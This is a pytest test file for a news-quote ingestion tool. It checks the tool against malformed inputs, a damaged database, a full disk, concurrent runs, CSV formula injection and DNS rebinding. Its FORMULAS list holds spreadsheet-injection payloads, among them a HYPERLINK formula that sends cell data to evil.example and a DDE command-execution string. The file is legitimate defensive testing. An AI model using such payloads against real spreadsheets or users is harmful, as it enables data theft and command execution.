"""Input and stores an attacker (or bad luck) hands quotedesk, through the real command.

One table of cases, each a few files of bad records among good ones, all written here. They
are ingested together by the real ``quotedesk ingest`` into a real store: every bad record must
end as one line on stderr naming its file and line, and as a row of ``ingest_errors`` with its
reason; every good neighbour must be stored exactly once; the exit status is 1 and no
traceback reaches stderr. Then the store itself is attacked: damaged bytes, a full disk, two
ingests of one file at once; and what leaves it: CSV cells a spreadsheet would run, a web page
on another host name asking the dashboard for its data.
"""

from __future__ import annotations

import base64
import csv
import gzip
import io
import json
import os
import random
import resource
import shutil
import signal
import socket
import subprocess
import sys
import time
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import duckdb
import polars as pl
import pytest
from streamlit.testing.v1 import AppTest

from analysis import export, queries, settings, store
from analysis.ingest import ingest

ROOT = settings.PROJECT_ROOT
QUOTEDESK = [sys.executable, "-m", "analysis.cli"]
GOOD = "Harbour master Ines Vola said the port would reopen on Monday after three days of storms."


def _env(**extra: str) -> dict[str, str]:
    """The environment of a user's shell (no debugging switches)."""
    env = {k: v for k, v in os.environ.items() if k not in ("QUOTEDESK_DEBUG",)}
    return {**env, **extra}


def run(*args: str, **kw: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*QUOTEDESK, *args], capture_output=True, text=True, env=_env(), timeout=600, **kw
    )


def good(i: str) -> dict[str, Any]:
    return {"id": i, "outlet": "Robust Courier", "published": "2025-06-01",
            "text": f"{GOOD} (Filed as {i}.)"}  # fmt: skip


def jsonl(*rows: Any) -> bytes:
    """Rows as JSONL; a str row is written as it is (to hold escapes json.dumps would not)."""
    out = []
    for r in rows:
        out.append(r if isinstance(r, str) else json.dumps(r))
    return ("\n".join(out) + "\n").encode()


# ------------------------------------------------------------------------------ the table
@dataclass
class Case:
    name: str
    files: dict[str, bytes]  # path under the input folder -> bytes
    stored: list[str]  # ids that must be stored, once each
    errors: list[tuple[str, int | None, str]]  # (file, line, reason) in ingest_errors
    links: dict[str, str] = field(default_factory=dict)  # symlink path -> target (relative)
    check: str = ""  # a further check by name, see test_each_case_is_handled


SURROGATE = '"\\ud800"'  # a lone surrogate, as a JSON escape
CASES = [
    Case(
        "lone surrogate in a title, an outlet, an id, meta",
        {
            "surrogates.jsonl": jsonl(
                good("s-ok1"),
                f'{{"id": "s-title", "title": {SURROGATE}, "text": "{GOOD}"}}',
                f'{{"id": "s-outlet", "outlet": {SURROGATE}, "text": "{GOOD}"}}',
                f'{{"id": "s\\udc00id", "text": "{GOOD}"}}',
                f'{{"id": "s-meta", "meta": {{"k": [{SURROGATE}]}}, "text": "{GOOD}"}}',
                good("s-ok2"),
            )
        },
        ["s-ok1", "s-ok2"],
        [("surrogates.jsonl", n, "undecodable") for n in (2, 3, 4, 5)],
    ),
    Case(
        "no id and a URL that cannot be parsed; an id and such a URL",
        {
            "urls.jsonl": jsonl(
                good("u-ok1"),
                {"url": "http://example.org:99999/story", "text": f"{GOOD} One."},
                {"url": "http://[::1/x", "text": f"{GOOD} Two."},
                {"id": "u-kept", "url": "http://[::1/x", "text": f"{GOOD} Three."},
                good("u-ok2"),
            )
        },
        ["u-ok1", "u-kept", "u-ok2"],
        [
            ("urls.jsonl", 2, "invalid-url"),
            ("urls.jsonl", 3, "invalid-url"),
            ("urls.jsonl", 4, "invalid-url"),
        ],
        check="url-dropped",
    ),
    Case(
        "a symlinked subfolder is read; a link back up is refused",
        {"elsewhere/linked.jsonl": jsonl(good("l-1"), good("l-2"))},
        ["l-1", "l-2"],
        [("loop", None, "symlink-loop")],
        links={"in/linked-folder": "../elsewhere", "in/loop": "."},
    ),
    Case(
        "duplicate ids, also 1 and '1'; a boolean id",
        {
            "dups.jsonl": jsonl(
                {**good("x"), "id": 1},
                {**good("x"), "id": "1", "text": "Another text entirely."},
                {**good("x"), "id": True},
                {**good("x"), "id": "True"},
                {**good("x"), "id": "d-ok"},
                {**good("x"), "id": "d-ok"},
            )
        },
        ["1", "True", "d-ok"],
        [
            ("dups.jsonl", 2, "duplicate-id"),
            ("dups.jsonl", 3, "invalid-id"),
            ("dups.jsonl", 6, "duplicate-id"),
        ],
    ),
    Case(
        "a small truncated .gz keeps its readable lines",
        {"cut.jsonl.gz": b"truncated below"},  # replaced in the fixture
        [],
        [("cut.jsonl.gz", None, "unreadable")],
        check="truncated-gz",
    ),
    Case(
        "years 0001 and 9999",
        {
            "dates.jsonl": jsonl(
                {**good("y-1"), "published": "0001-01-01"},
                {**good("y-9999"), "published": "9999-12-31"},
                good("y-ok"),
            )
        },
        ["y-1", "y-9999", "y-ok"],
        [("dates.jsonl", 1, "invalid-date"), ("dates.jsonl", 2, "invalid-date")],
        check="dates-dropped",
    ),
    Case(
        "an HTML page (trafilatura's cleaner must be installed)",
        {
            "page.html": (
                "<html><head><title>Port reopens</title></head><body><article><h1>Port reopens</h1>"
                f"<p>{GOOD}</p><p>Repairs cost $2 million, the harbour board said.</p>"
                "</article></body></html>"
            ).encode()
        },
        [],
        [],
        check="html-stored",
    ),
    Case(
        "ordinary news that crashed Python 3.11 (int.is_integer)",
        {"hundreds.jsonl": jsonl({"id": "h-1", "text": "Hundreds died. Dozens were hurt."})},
        ["h-1"],
        [],
        check="hundreds-figure",
    ),
]


GZ_WHOLE_LINES: list[int] = []  # how many whole lines the truncated .gz still holds


def _truncated_gz() -> bytes:
    rng = random.Random(3)  # varied text, so the compressed stream is long enough to cut
    rows = [{**good(f"gz-{i}"), "note": f"{rng.random():.12f}"} for i in range(60)]
    data = gzip.compress(jsonl(*rows))
    cut = data[: len(data) * 2 // 3]
    text = zlib.decompressobj(16 + zlib.MAX_WBITS).decompress(cut)
    GZ_WHOLE_LINES.append(text.count(b"\n"))
    assert GZ_WHOLE_LINES[-1] >= 12, "the cut must leave at least 12 whole lines"
    return cut


@dataclass
class Ingested:
    folder: Path
    db: Path
    proc: subprocess.CompletedProcess[str]


@pytest.fixture(scope="module")
def ingested(tmp_path_factory: pytest.TempPathFactory) -> Ingested:
    work = tmp_path_factory.mktemp("hostile")
    folder = work / "in"
    for case in CASES:
        for rel, data in case.files.items():
            path = (work if rel.startswith("elsewhere/") else folder) / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(_truncated_gz() if rel == "cut.jsonl.gz" else data)
        for link, target in case.links.items():
            (work / link).symlink_to(target, target_is_directory=True)
    db = work / "hostile.duckdb"
    proc = run("ingest", str(folder), "--db", str(db))
    return Ingested(folder, db, proc)


def _errors(db: Path) -> pl.DataFrame:
    return store.query(db, "SELECT source, line, reason, detail FROM ingest_errors")


def _ids(db: Path) -> list[str]:
    return store.query(db, "SELECT article_id FROM articles")["article_id"].to_list()


def test_the_run_ends_with_status_1_and_no_traceback(ingested: Ingested) -> None:
    assert ingested.proc.returncode == 1, ingested.proc.stderr
    assert "Traceback" not in ingested.proc.stderr
    expected = sum(len(c.errors) for c in CASES)
    lines = [line for line in ingested.proc.stderr.splitlines() if line.startswith("error: ")]
    assert len(lines) == expected, ingested.proc.stderr
    for line in lines:  # one line each, naming the file (and the line when there is one)
        assert str(ingested.folder) in line, line


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_each_case_is_handled(ingested: Ingested, case: Case) -> None:
    ids = _ids(ingested.db)
    for i in case.stored:
        assert ids.count(i) == 1, f"{i} stored {ids.count(i)} times"
    errors = _errors(ingested.db)
    for name, line, reason in case.errors:
        hits = errors.filter(
            pl.col("source").str.ends_with(name)
            & (pl.col("line").is_null() if line is None else pl.col("line") == line)
            & (pl.col("reason") == reason)
        )
        assert hits.height == 1, f"{name}:{line} {reason} not recorded once:\n{errors}"
        if line is not None:
            assert f"{name}:{line}: {reason}" in ingested.proc.stderr
    db = ingested.db
    if case.check == "url-dropped":
        row = store.query(db, "SELECT url, meta FROM articles WHERE article_id = 'u-kept'")
        assert row["url"][0] is None and json.loads(row["meta"][0])["url_raw"] == "http://[::1/x"
    elif case.check == "dates-dropped":
        rows = store.query(db, "SELECT published FROM articles WHERE article_id LIKE 'y-%'")
        assert rows["published"].null_count() == 2
    elif case.check == "truncated-gz":
        stored = sorted((i for i in ids if i.startswith("gz-")), key=lambda i: int(i[3:]))
        assert stored == [f"gz-{i}" for i in range(GZ_WHOLE_LINES[-1])]
    elif case.check == "html-stored":
        rows = store.query(db, "SELECT title FROM articles WHERE source LIKE '%page.html'")
        assert rows["title"].to_list() == ["Port reopens"]
    elif case.check == "hundreds-figure":
        figs = store.query(db, "SELECT value FROM figures WHERE article_id = 'h-1'")
        assert sorted(figs["value"].to_list()) == [12.0, 100.0]


def test_with_debug_the_traceback_is_shown(tmp_path: Path) -> None:
    bad = tmp_path / "not-a-store.duckdb"
    bad.write_bytes(b"this is not a database" * 100)
    quiet = run("info", "--db", str(bad))
    loud = run("info", "--db", str(bad), "--debug")
    assert quiet.returncode == 2 and quiet.stderr.count("\n") == 1, quiet.stderr
    assert "Traceback" not in quiet.stderr and "Traceback" in loud.stderr


def test_an_exception_inside_one_record_is_that_records_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A bug the extractor has not met yet: the record that triggers it is an error of its
    own (extraction-failed, with its line), never the end of the run."""
    from analysis.extract import pipeline

    real = pipeline.extract_doc

    def fragile(doc: Any, title: str = "", article_id: str = "") -> Any:
        if "boom" in doc.text:
            raise ZeroDivisionError("a rule divided by zero")
        return real(doc, title, article_id)

    monkeypatch.setattr(pipeline, "extract_doc", fragile)
    src = tmp_path / "in.jsonl"
    src.write_bytes(
        jsonl(good("e-1"), {**good("e-boom"), "text": "The boom said so."}, good("e-2"))
    )
    report = ingest([src], tmp_path / "t.duckdb", progress=False)
    assert sorted(_ids(tmp_path / "t.duckdb")) == ["e-1", "e-2"]
    (err,) = report.errors
    assert (err.line, err.reason) == (2, "extraction-failed")
    assert "ZeroDivisionError" in err.detail


def test_a_failed_sample_build_leaves_no_database(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from analysis import cli

    sample = tmp_path / "sample"
    sample.mkdir()
    (sample / "articles.jsonl").write_bytes(jsonl(good("a"), "{not json"))
    (sample / "extra").mkdir()
    monkeypatch.setattr(cli, "SAMPLE_DIR", sample)
    monkeypatch.delenv("QUOTEDESK_DEBUG", raising=False)
    db = tmp_path / "sample.duckdb"
    assert cli.main(["sample", "--db", str(db)]) == 2
    assert "input errors" in capsys.readouterr().err
    assert not db.exists() and not list(tmp_path.glob("sample.duckdb*"))


# ------------------------------------------------------------------------ the store itself
@pytest.fixture(scope="module")
def small_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    work = tmp_path_factory.mktemp("store")
    src = work / "in.jsonl"
    src.write_bytes(jsonl(*(good(f"c-{i}") for i in range(40))))
    db = work / "small.duckdb"
    assert ingest([src], db, progress=False).ok
    return db


def _damage(db: Path, out: Path, table: str) -> Path:
    """A copy of ``db`` with random bytes flipped inside a block that ``table`` uses."""
    shutil.copy(db, out)
    con = duckdb.connect(str(db), read_only=True)
    block_size = con.sql("SELECT block_size FROM pragma_database_size()").fetchone()[0]  # type: ignore[index]
    blocks = sorted({
        b for (b,) in con.execute(
            "SELECT block_id FROM pragma_storage_info(?) WHERE block_id >= 0", [table]
        ).fetchall()
    })  # fmt: skip
    con.close()
    rng = random.Random(7)
    with out.open("r+b") as f:
        f.seek(3 * 4096 + blocks[0] * block_size + 5000)
        data = f.read(64)
        f.seek(3 * 4096 + blocks[0] * block_size + 5000)
        f.write(bytes(b ^ rng.randrange(1, 256) for b in data))
    return out


@pytest.mark.parametrize("command", ["info", "migrate", "ingest", "reextract", "speakers apply"])
def test_a_damaged_store_is_refused_and_left_as_it_is(
    small_store: Path, tmp_path: Path, command: str
) -> None:
    db = _damage(small_store, tmp_path / "damaged.duckdb", "statements")
    before = db.read_bytes()
    src = tmp_path / "more.jsonl"
    src.write_bytes(jsonl(good("more-1")))
    args = {"ingest": ["ingest", str(src)], "speakers apply": ["speakers", "apply"]}
    proc = run(*args.get(command, command.split()), "--db", str(db))
    assert proc.returncode == 2, proc.stderr
    assert "is damaged" in proc.stderr
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert db.read_bytes() == before  # nothing was written into it


def test_the_dashboard_says_the_store_is_damaged_without_a_path(
    small_store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    db = _damage(small_store, tmp_path / "damaged.duckdb", "articles")
    monkeypatch.setenv("QUOTEDESK_DB", str(db))
    monkeypatch.delenv("QUOTEDESK_DASHBOARD_RAISE")
    at = AppTest.from_file(str(ROOT / "dashboard" / "app.py"), default_timeout=60).run()
    assert not at.exception
    (error,) = at.error
    assert "damaged" in error.value
    assert str(tmp_path) not in error.value and "/" not in error.value.replace("</", "")


def test_the_integrity_check_passes_a_healthy_store_and_finds_each_damaged_table(
    small_store: Path, tmp_path: Path
) -> None:
    store.check_integrity(small_store)  # no error
    for table in ("articles", "statements", "article_topics"):
        db = _damage(small_store, tmp_path / f"{table}.duckdb", table)
        with pytest.raises(store.CorruptStore, match=table):
            store.check_integrity(db)


def _file_size_limit(limit: int) -> Any:
    def apply() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past it fails with EFBIG
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return apply


def test_a_full_disk_stops_the_run_with_one_line_and_loses_nothing(
    small_store: Path, tmp_path: Path
) -> None:
    """No file may be written past 1 MB (RLIMIT_FSIZE: writes fail as on a full disk, without
    root): the write-ahead log fills up after a few batches."""
    db = tmp_path / "full.duckdb"
    shutil.copy(small_store, db)
    before = queries.overview(db)
    src = tmp_path / "big.jsonl"
    rng = random.Random(11)  # varied words: repeated text compresses to nothing in DuckDB
    words = GOOD.split()
    texts = [" ".join(rng.choice(words) + str(rng.randrange(10**6)) for _ in range(600))
             for _ in range(400)]  # fmt: skip
    src.write_bytes(jsonl(*({**good(f"f-{i}"), "text": t} for i, t in enumerate(texts))))
    proc = subprocess.run(
        [*QUOTEDESK, "ingest", str(src), "--db", str(db)],
        capture_output=True, text=True, env=_env(), timeout=600,
        preexec_fn=_file_size_limit(1_000_000),  # no write past 1 MB: the log fills up
    )  # fmt: skip
    assert proc.returncode == 2, proc.stderr
    assert "disk is full" in proc.stderr and proc.stderr.count("\n") == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    assert queries.overview(db)["articles"] >= before["articles"]  # nothing stored was lost
    # with room again, the next run finishes the work and no run is left 'running'
    again = run("ingest", str(src), "--db", str(db))
    assert again.returncode == 0, again.stderr
    statuses = store.query(db, "SELECT status FROM runs")["status"].to_list()
    assert "running" not in statuses and statuses[-1] == "ok"
    assert queries.overview(db)["articles"] == before["articles"] + 400


def test_two_ingests_of_one_file_at_once_count_each_article_once(tmp_path: Path) -> None:
    src = tmp_path / "same.jsonl"
    src.write_bytes(jsonl(*(good(f"o-{i}") for i in range(60))))
    db = tmp_path / "o.duckdb"
    cmd = [*QUOTEDESK, "ingest", str(src), "--db", str(db), "--batch-size", "5"]
    procs = [subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True, env=_env()) for _ in "ab"]
    outs = [p.communicate(timeout=600)[0] for p in procs]
    assert all(p.returncode == 0 for p in procs), outs
    runs = store.query(db, "SELECT articles_new, articles_updated, articles_unchanged FROM runs")
    assert runs["articles_new"].sum() == 60, runs
    assert runs["articles_updated"].sum() == 0, runs  # nothing changed: nothing "updated"
    assert (runs["articles_new"] + runs["articles_unchanged"]).to_list() == [60, 60]


# ------------------------------------------------------------------ what leaves the store
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]  # fmt: skip


def test_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
    df = pl.DataFrame({"text": [*FORMULAS, "plain", "a = b"], "n": list(range(-4, 5))})
    path = export.write_frame(df, tmp_path / "out.csv")
    from dashboard.ui import csv_bytes

    for raw in (path.read_bytes().decode("utf-8"), csv_bytes(df).decode("utf-8")):
        rows = list(csv.DictReader(io.StringIO(raw, newline="")))
        cells = [r["text"] for r in rows]
        assert cells[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
        assert cells[-2:] == ["plain", "a = b"]
        assert [int(r["n"]) for r in rows] == list(range(-4, 5))  # numbers stay numbers


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture(scope="module")
def dashboard(small_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    port = _free_port()
    log = tmp_path_factory.mktemp("dash") / "log"
    with log.open("wb") as out:
        proc = subprocess.Popen(
            [*QUOTEDESK, "dashboard", "--db", str(small_store), "--port", str(port),
             "--headless"],
            stdout=out, stderr=subprocess.STDOUT, env=_env(), start_new_session=True,
        )  # fmt: skip
    try:
        for _ in range(300):
            try:
                if _upgrade(port, f"127.0.0.1:{port}").startswith("HTTP/1.1 101"):
                    break
            except OSError:
                pass
            if proc.poll() is not None:
                pytest.fail(log.read_text())
            time.sleep(0.2)
        yield port
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        proc.wait(timeout=20)


def _upgrade(port: int, host: str) -> str:
    """The status line of a WebSocket upgrade to the app's stream, as a browser on ``host``
    would ask for it."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        key = base64.b64encode(os.urandom(16)).decode()
        s.sendall(
            f"GET /_stcore/stream HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
            f"Origin: http://{host}\r\n\r\n".encode()
        )
        return s.recv(200).decode(errors="replace").split("\r\n")[0]


@pytest.mark.parametrize(
    ("host", "allowed"),
    [("localhost", True), ("127.0.0.1", True), ("evil.example", False),
     ("localhost.evil.example", False), ("127.0.0.1.nip.io", False)],
)  # fmt: skip
def test_the_dashboard_answers_only_localhost_names(
    dashboard: int, host: str, allowed: bool
) -> None:
    """DNS rebinding: a page on evil.example whose name now points at 127.0.0.1 is refused."""
    status = _upgrade(dashboard, f"{host}:{dashboard}")
    assert status.startswith("HTTP/1.1 101" if allowed else "HTTP/1.1 403"), status
